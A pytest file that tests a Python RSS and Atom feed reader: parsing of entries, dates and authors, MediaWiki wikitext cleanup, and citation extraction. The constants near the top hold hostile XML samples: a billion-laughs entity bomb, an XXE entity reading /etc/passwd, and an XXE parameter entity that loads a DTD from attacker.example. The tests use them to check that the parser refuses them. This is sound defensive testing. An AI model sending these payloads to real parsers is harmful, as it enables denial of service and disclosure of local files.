"""Atom and RSS: entries as documents, HTML and twice-escaped wikitext decoded, unsafe XML refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from rashomon.errors import InputError
from rashomon.readers import RawInput, feeds, read_inputs

DATA = Path(__file__).parent / "data" / "readers"

BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
<entry><id>a</id><title>&lol9;</title><summary>&lol9;</summary></entry></feed>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title>
<item><title>x</title><description>&xxe;</description></item></channel></rss>
"""
XXE_PARAM = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>
<rss version="2.0"><channel><title>t</title><item><title>x</title></item></channel></rss>
"""


def read(name: str, data: bytes | None = None) -> list:
    data = (DATA / name).read_bytes() if data is None else data
    return list(feeds.read(RawInput(path=name, _data=data)))


def test_rss_items_html_content_dates_author():
    first, second = read("news.rss")
    assert first.id == "news.rss#herald-2021-0503-1" and first.part == "herald-2021-0503-1"
    assert second.id == "news.rss#2"  # a URL guid is no PART: the position is
    assert first.format == "rss"
    assert first.title == "Seven dead in Riverside clash"
    assert first.url == "https://herald.example.org/news/7-dead"
    assert (first.published, first.date_source) == ("2021-05-03T21:40:00+03:00", "rss:pubDate")
    assert first.author == "Jane Doe" and first.publisher == "Riverside Herald"
    # the headline leads the text, so a figure in it has evidence
    assert first.text == ("Seven dead in Riverside clash\n\nPolice said seven people were killed.\n\n"
                          "Organisers counted twelve dead.\n\nReactions\n\nThe mayor called for calm.")
    assert "track()" not in first.text
    head, sec = first.sections
    assert (head.level, first.text[head.span[0] : head.span[1]]) == (1, "Seven dead in Riverside clash")
    assert first.text[sec.span[0] : sec.span[1]] == "Reactions"
    (link,) = first.links
    assert first.text[link.span[0] : link.span[1]] == "twelve dead"
    assert (second.updated, second.date_source) == ("2021-05-04T08:00:00+03:00", "dc:date")
    assert first.sha256 == second.sha256 and first.entry_sha256 != second.entry_sha256


def test_mediawiki_contributions_feed_twice_escaped_wikitext():
    (doc,) = read("mw_contribs.atom")
    assert doc.id == "mw_contribs.atom#1"
    assert doc.metadata["edit_summary"] == "Editor1: Expanded"
    assert doc.metadata["markup"] == "wikitext"
    assert doc.text.startswith("title: Riverside rally clash\ndate: 3–4 May 2021\n")
    assert "The Riverside rally clash took place in Riverside on 3 May 2021." in doc.text
    assert "Editor1" not in doc.text
    for bad in ("{{", "}}", "[[", "&lt;", "&amp;", "<ref", "<br", "thumb|", "Category:", "'''"):
        assert bad not in doc.text, bad
    assert len(doc.citations) == 4
    assert doc.metadata["infobox"]["casualties1"] == "7 killed"
    assert (doc.updated, doc.date_source, doc.author) == ("2021-05-06T09:15:00Z", "atom:updated", "Editor1")


def test_mediawiki_history_diff_takes_the_new_side():
    (doc,) = read("history.atom")
    assert "Погибли 10 человек." in doc.text
    assert "8 человек" not in doc.text
    assert doc.metadata["edit_summary"] == "уточнение"
    assert [s.title for s in doc.sections] == ["Последствия", "References"]
    (c,) = doc.citations
    assert (c.title, c.publisher, c.date) == ("Десять погибших", "Вести", "2024-03-02")


@pytest.mark.parametrize("payload", [BOMB, XXE, XXE_PARAM], ids=["billion-laughs", "xxe-file", "xxe-parameter"])
def test_entity_declarations_are_refused(payload):
    with pytest.raises(InputError) as e:
        read("evil.atom", payload)
    assert e.value.code == "E108"


def test_bomb_refused_in_utf16_too():
    with pytest.raises(InputError) as e:
        read("evil.atom", BOMB.decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16"))
    assert e.value.code == "E108"


def test_bomb_through_read_inputs_is_one_clean_error(tmp_path):
    (tmp_path / "evil.atom").write_bytes(BOMB)
    (tmp_path / "ok.rss").write_bytes((DATA / "news.rss").read_bytes())
    out = list(read_inputs([str(tmp_path)]))
    errors = [x for x in out if isinstance(x, InputError)]
    assert [e.code for e in errors] == ["E108"]
    assert len(out) == 3  # the run goes on with the rest
    assert all("lollol" not in (getattr(d, "text", "") or "") for d in out)


@pytest.mark.parametrize("payload", [b"<rss><channel><item><title>x</tit", b"<feed><entry>", b"not a feed at all \x00\x01"])
def test_malformed_feed_without_entries_is_e106(payload):
    with pytest.raises(InputError) as e:
        read("bad.rss", payload)
    assert e.value.code in ("E106", "E109")


def test_plain_text_entry_with_wikitext_signals():
    feed = b"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>w</title>
    <entry><id>p-1</id><title>Dam</title><updated>2024-01-01T00:00:00Z</updated>
    <content type="text">'''Dam''' broke in [[Riverside]].\n== Toll ==\n{{convert|3|km}} flooded.</content></entry></feed>"""
    (doc,) = read("w.atom", feed)
    assert doc.id == "w.atom#p-1"
    assert doc.text == "Dam broke in Riverside.\n\nToll\n\n3 km flooded."


def test_entry_without_body_keeps_its_title():
    feed = b"""<rss version="2.0"><channel><title>c</title><item><title>Only a headline</title></item></channel></rss>"""
    (doc,) = read("t.rss", feed)
    assert doc.text == "Only a headline" and doc.metadata["text_from"] == "title"


@pytest.mark.seeds
def test_seed_003_mediawiki_feed(seeds_dir):
    path = seeds_dir / "003_38b7ad1d4a481ecc.txt"
    docs = [d for d in read_inputs([str(seeds_dir)]) if getattr(d, "path", None) == path.name]
    (doc,) = docs
    assert doc.id == "003_38b7ad1d4a481ecc.txt#1"
    assert doc.title and doc.updated and doc.author and doc.url
    assert doc.text.startswith("title: ")
    assert "date: 16–17 December 2011" in doc.text
    assert "leadfigures1: 14+ fatalities" in doc.text
    intro = doc.text.split("\n\n")[1]
    assert intro.startswith("The Zhanaozen massacre took place in Kazakhstan's western Mangystau Region over "
                            "the weekend of 16–17 December 2011. At least 14 protestors were killed")
    titles = [s.title for s in doc.sections]
    for t in ("Zhanaozen", "December 16, 2011", "Testimony of victims and witnesses", "Response",
              "Investigations", "In the media", "References"):
        assert t in titles
    assert titles.count("References") == 1
    assert len(doc.citations) == 24  # one per <ref> that defines content; 8 named re-uses in metadata
    assert len(doc.metadata["citation_reuses"]) == 8
    bbc = [c for c in doc.citations if c.title == "Kazakh oil strike: 10 dead in Zhanaozen clashes"]
    assert len(bbc) == 1 and (bbc[0].publisher, bbc[0].date) == ("BBC News", "2011-12-16")
    assert "Kazakh oil strike: 10 dead in Zhanaozen clashes" in doc.text[bbc[0].span[0] : bbc[0].span[1]]
    for c in doc.citations:
        assert c.anchor is not None and c.span is not None
    for bad in ("thumb|", "Category:", "{{", "&lt;", "<ref", "[["):
        assert bad not in doc.text, bad
    assert doc.metadata["infobox"]["leadfigures1"] == "14+ fatalities"
    assert doc.metadata["edit_summary"].endswith("Edited")


@pytest.mark.parametrize("payload", [BOMB, XXE], ids=["billion-laughs", "xxe-file"])
def test_feed_parser_expands_nothing_even_past_the_prolog_check(monkeypatch, payload):
    """Defence in depth: with the prolog check disabled, no entity is expanded or resolved."""
    monkeypatch.setattr(feeds, "check_prolog", lambda head, path: None)
    try:
        docs = read("evil.atom", payload)
    except InputError:
        return
    for d in docs:
        assert "lollol" not in d.text and "root:" not in d.text and len(d.text) < 1000
